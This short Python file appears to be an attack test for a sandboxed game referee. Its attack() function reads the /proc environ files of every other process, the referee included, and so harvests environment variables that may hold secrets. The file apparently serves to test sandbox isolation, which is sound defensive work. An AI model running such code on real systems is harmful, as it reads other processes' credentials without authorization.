"""Reads the environment of the referee and of all other processes."""

import os
from pathlib import Path

from attacker import attempt, play


def attack() -> object:
    me = os.getpid()
    return b"".join(path.read_bytes() for path in Path("/proc").glob("[0-9]*/environ") if int(path.parent.name) != me)


attempt(attack)
play()
